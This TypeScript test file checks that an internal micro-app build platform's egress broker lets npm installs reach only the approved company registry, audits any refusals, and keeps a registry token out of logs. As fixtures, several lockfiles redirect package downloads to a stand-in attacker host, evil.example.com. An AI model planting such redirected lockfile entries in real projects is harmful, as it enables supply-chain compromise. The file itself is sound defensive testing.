import assert from 'node:assert/strict';
import { createHash } from 'node:crypto';
import { mkdirSync, mkdtempSync, readFileSync, rmSync, writeFileSync } from 'node:fs';
import { createServer, type Server } from 'node:http';
import { createServer as createHttpsServer, type Server as HttpsServer } from 'node:https';
import type { AddressInfo } from 'node:net';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import { after, before, describe, test } from 'node:test';
import { create as createTar } from 'tar';
import {
  buildFinished,
  call,
  companyCa,
  lunchPoll,
  people,
  type signInEveryone,
  sourceArchive,
  startBuildServer,
  type TestServer,
} from './harness.ts';

/** A one-file npm package as the tarball a registry serves, with its lockfile integrity. */
async function tarball(name: string, version: string) {
  const root = mkdtempSync(join(tmpdir(), 'microapp-pkg-'));
  try {
    mkdirSync(join(root, 'package'));
    writeFileSync(join(root, 'package', 'package.json'), JSON.stringify({ name, version, main: 'index.js' }));
    writeFileSync(join(root, 'package', 'index.js'), `module.exports = () => '${name} ${version} works';\n`);
    const file = `${root}.tgz`;
    await createTar({ gzip: true, cwd: root, file, portable: true }, ['package']);
    const bytes = readFileSync(file);
    rmSync(file, { force: true });
    return { bytes, integrity: `sha512-${createHash('sha512').update(bytes).digest('base64')}` };
  } finally {
    rmSync(root, { recursive: true, force: true });
  }
}

/** An app with one dependency, locked to `resolved`. */
function appWithDependency(name: string, resolved: string, integrity: string) {
  const dep = { version: '1.0.0', resolved, integrity };
  return {
    'microapp.yaml': `name: ${name}\nowner: alice@example.com\npurpose: Use a small library from the company registry\ndataClasses: [internal]\naudience: { department: finance, maxUsers: 50 }\n`,
    'package.json': JSON.stringify({
      name,
      version: '1.0.0',
      private: true,
      scripts: { test: 'node --test' },
      dependencies: { 'tiny-dep': '1.0.0' },
    }),
    'package-lock.json': JSON.stringify({
      name,
      version: '1.0.0',
      lockfileVersion: 3,
      requires: true,
      packages: {
        '': { name, version: '1.0.0', dependencies: { 'tiny-dep': '1.0.0' } },
        'node_modules/tiny-dep': dep,
      },
    }),
    'server.js':
      "require('node:http').createServer((q, s) => s.end(require('tiny-dep')())).listen(process.env.PORT);\n",
    'test/dep.test.js':
      "const test = require('node:test');\nconst assert = require('node:assert');\ntest('the dependency is installed', () => assert.match(require('tiny-dep')(), /works/));\n",
  };
}

/** Registers `name` and has the platform build it, its one dependency locked to `resolved`. */
async function buildWithDependency(
  server: TestServer,
  t: Awaited<ReturnType<typeof signInEveryone>>,
  name: string,
  resolved: string,
  pkg: { integrity: string },
) {
  const reg = await call(server, 'POST', '/api/v1/apps', {
    token: t.alice,
    body: lunchPoll({
      name,
      owner: people.alice,
      purpose: 'Use a small library from the company registry',
      audience: { department: 'finance', maxUsers: 50 },
    }),
  });
  assert.equal(reg.status, 201, reg.text);
  const res = await call(server, 'POST', `/api/v1/apps/${name}/builds`, {
    token: t.alice,
    body: { source: await sourceArchive(appWithDependency(name, resolved, pkg.integrity)) },
  });
  assert.equal(res.status, 202, res.text);
  return buildFinished(server, name, res.body.id, t.alice);
}

describe('a build’s install step reaches the registry through the broker, and nothing else', () => {
  let server: TestServer;
  let t: Awaited<ReturnType<typeof signInEveryone>>;
  let stop: () => Promise<void>;
  let registry: Server;
  const served: string[] = [];
  let pkg: Awaited<ReturnType<typeof tarball>>;

  before(async () => {
    pkg = await tarball('tiny-dep', '1.0.0');
    // A stand-in for the company's npm mirror, on loopback; `--dev` pins both names to it, so a request
    // that got past the broker would be seen here.
    registry = createServer((req, res) => {
      served.push(`${req.headers.host} ${req.url}`);
      if (req.url === '/tiny-dep/-/tiny-dep-1.0.0.tgz') {
        res.setHeader('content-type', 'application/octet-stream');
        return res.end(pkg.bytes);
      }
      res.statusCode = 404;
      res.end('{}');
    });
    await new Promise<void>((r) => registry.listen(0, '127.0.0.1', r));
    const port = (registry.address() as AddressInfo).port;
    ({ server, t, stop } = await startBuildServer({
      MICROAPP_NPM_REGISTRY: 'http://npm.corp.example.com/',
      MICROAPP_DEV_EGRESS_HOSTS: `npm.corp.example.com=127.0.0.1:${port},evil.example.com=127.0.0.1:${port}`,
    }));
  });
  after(async () => {
    await stop();
    registry.close();
  });

  const build = (name: string, resolved: string) => buildWithDependency(server, t, name, resolved, pkg);

  test('a dependency from the registry is installed, and the fetch is recorded as the app’s egress', async () => {
    const b = await build('uses-mirror', 'http://npm.corp.example.com/tiny-dep/-/tiny-dep-1.0.0.tgz');
    assert.equal(b.state, 'passed', `${b.error} ${JSON.stringify(b.steps)}`);
    assert.equal(served.length, 1, served.join(', '));
    assert.match(served[0]!, /^npm\.corp\.example\.com(:\d+)? \/tiny-dep\/-\/tiny-dep-1\.0\.0\.tgz$/);
    const db = server.rawDb();
    try {
      const rows = await db.kysely
        .selectFrom('app_egress')
        .select(['host', 'method', 'decision'])
        .where('host', '=', 'npm.corp.example.com')
        .execute();
      assert.deepEqual(rows, [{ host: 'npm.corp.example.com', method: 'GET', decision: 'allowed' }]);
    } finally {
      await db.destroy();
    }
  });

  test('a lockfile that points anywhere else fails the install, and the broker says why', async () => {
    served.length = 0;
    const b = await build('sneaky-lock', 'http://evil.example.com/tiny-dep/-/tiny-dep-1.0.0.tgz');
    assert.equal(b.state, 'failed');
    assert.equal(b.steps.find((s) => s.step === 'install')?.status, 'failed', JSON.stringify(b.steps));
    assert.deepEqual(served, [], 'nothing reached the other host');
    const denied = (
      await call(server, 'GET', '/api/v1/audit/events?app=sneaky-lock&action=egress.denied', {
        token: t.ivan,
      })
    ).body.items as { reason: string; summary: { host: string } }[];
    assert.ok(
      denied.some((e) => e.summary.host === 'evil.example.com'),
      JSON.stringify(denied),
    );
    assert.match(
      denied[0]!.reason,
      /evil\.example\.com is not in sneaky-lock's approved egress \(npm\.corp\.example\.com\)/,
    );
  });
  test('npm retrying a refused tunnel is stopped at the first refusal, and audited once with its count', async () => {
    // Twenty packages locked to a host that is not the registry, over HTTPS: npm asks the broker for a tunnel
    // per package and, refused, opens the next one at once, hundreds of times a second, until stopped.
    const name = 'loop-lock';
    const files = appWithDependency(
      name,
      'https://evil.example.com/tiny-dep/-/tiny-dep-1.0.0.tgz',
      pkg.integrity,
    );
    const lock = JSON.parse(files['package-lock.json']) as { packages: Record<string, unknown> };
    const manifest = JSON.parse(files['package.json']) as { dependencies: Record<string, string> };
    for (let i = 0; i < 20; i++) {
      manifest.dependencies[`dep-${i}`] = '1.0.0';
      lock.packages[`node_modules/dep-${i}`] = {
        version: '1.0.0',
        resolved: `https://evil.example.com/dep-${i}/-/dep-${i}-1.0.0.tgz`,
        integrity: pkg.integrity,
      };
    }
    (lock.packages[''] as { dependencies: Record<string, string> }).dependencies = manifest.dependencies;
    const reg = await call(server, 'POST', '/api/v1/apps', {
      token: t.alice,
      body: lunchPoll({
        name,
        owner: people.alice,
        purpose: 'Use many small libraries from elsewhere',
        audience: { department: 'finance', maxUsers: 50 },
      }),
    });
    assert.equal(reg.status, 201, reg.text);
    const started = Date.now();
    const res = await call(server, 'POST', `/api/v1/apps/${name}/builds`, {
      token: t.alice,
      body: {
        source: await sourceArchive({
          ...files,
          'package.json': JSON.stringify(manifest),
          'package-lock.json': JSON.stringify(lock),
        }),
      },
    });
    assert.equal(res.status, 202, res.text);
    const b = await buildFinished(server, name, res.body.id, t.alice);
    const took = Date.now() - started;
    assert.equal(b.state, 'failed');
    const install = b.steps.find((s) => s.step === 'install')!;
    assert.equal(install.status, 'failed', JSON.stringify(b.steps));
    assert.match(install.detail, /egress broker refused the way to the registry/);
    assert.match(install.detail, /evil\.example\.com is not in loop-lock's approved egress/);
    assert.ok(took < 60_000, `the step failed within a minute, not at the pipeline's limit (${took} ms)`);
    const denied = (
      await call(server, 'GET', `/api/v1/audit/events?app=${name}&action=egress.denied`, { token: t.ivan })
    ).body.items as { summary: { host: string; repeated?: number } }[];
    assert.ok(denied.length >= 1 && denied.length <= 2, `${denied.length} audit events, not one per attempt`);
    const repeated = denied.reduce((n, e) => n + (e.summary.repeated ?? 0), 0);
    assert.ok(denied.length === 1 || repeated >= 1, JSON.stringify(denied));
  });
});

describe('the company registry on a private address, behind its own CA, with a read token', () => {
  const token = 'npm_CorpRead-8d0c2b7e41f94a6a9e5d3c1b0a2f4e6d';
  let server: TestServer;
  let t: Awaited<ReturnType<typeof signInEveryone>>;
  let stop: () => Promise<void>;
  let registry: HttpsServer;
  let other: HttpsServer;
  let dir: string;
  let port: number;
  let otherPort: number;
  const served: string[] = [];
  let pkg: Awaited<ReturnType<typeof tarball>>;

  before(async () => {
    pkg = await tarball('tiny-dep', '1.0.0');
    dir = mkdtempSync(join(tmpdir(), 'microapp-corp-ca-'));
    const pki = companyCa(dir);
    const tokenFile = join(dir, 'npm-token');
    writeFileSync(tokenFile, `${token}\n`, { mode: 0o600 });
    const serve = (label: string) =>
      createHttpsServer({ key: pki.key, cert: pki.cert }, (req, res) => {
        if (label === 'registry' && req.headers.authorization !== `Bearer ${token}`) {
          served.push(`${label} unauthorized ${req.url}`);
          res.statusCode = 401;
          return res.end('{"error":"authentication required"}');
        }
        served.push(`${label} ${req.url}`);
        if (req.url === '/tiny-dep/-/tiny-dep-1.0.0.tgz') return res.end(pkg.bytes);
        res.statusCode = 404;
        res.end('{}');
      });
    registry = serve('registry');
    other = serve('other');
    for (const s of [registry, other]) await new Promise<void>((r) => s.listen(0, '127.0.0.1', r));
    port = (registry.address() as AddressInfo).port;
    otherPort = (other.address() as AddressInfo).port;
    // No pinned stand-in: `localhost` resolves to 127.0.0.1, a private address, as a company mirror's does.
    ({ server, t, stop } = await startBuildServer({
      MICROAPP_NPM_REGISTRY: `https://localhost:${port}/`,
      MICROAPP_NPM_CA_FILE: pki.ca,
      MICROAPP_NPM_TOKEN_FILE: tokenFile,
    }));
  });
  after(async () => {
    await stop();
    registry.closeAllConnections();
    other.closeAllConnections();
    registry.close();
    other.close();
    rmSync(dir, { recursive: true, force: true });
  });

  const build = (name: string, resolved: string) => buildWithDependency(server, t, name, resolved, pkg);

  test('a platform build installs from it through the broker, trusting the company CA and signed in', async () => {
    const b = await build('corp-mirror', `https://localhost:${port}/tiny-dep/-/tiny-dep-1.0.0.tgz`);
    assert.equal(b.state, 'passed', `${b.error} ${JSON.stringify(b.steps)}`);
    assert.ok(served.includes('registry /tiny-dep/-/tiny-dep-1.0.0.tgz'), served.join(', '));
    assert.ok(!served.some((s) => s.includes('unauthorized')), served.join(', '));
    assert.match(b.steps.find((s) => s.step === 'package')!.detail, /^1 production package/);
    // The token is handed to npm and to nothing that keeps or shows anything.
    const audit = await call(server, 'GET', '/api/v1/audit/events?limit=1000', { token: t.ivan });
    assert.equal(audit.status, 200);
    assert.ok(!JSON.stringify(b).includes(token), 'not in the build record');
    assert.ok(!audit.text.includes(token), 'not in the audit trail');
  });

  test('only the registry: another service on a private address is refused, and says where the way was shut', async () => {
    const before = served.length;
    const b = await build('corp-elsewhere', `https://localhost:${otherPort}/tiny-dep/-/tiny-dep-1.0.0.tgz`);
    assert.equal(b.state, 'failed');
    const install = b.steps.find((s) => s.step === 'install')!;
    assert.equal(install.status, 'failed');
    assert.match(install.detail, /egress broker refused the way to the registry/);
    assert.equal(served.length, before, 'nothing reached the other service');
    assert.ok(!JSON.stringify(b).includes(token));
  });
});
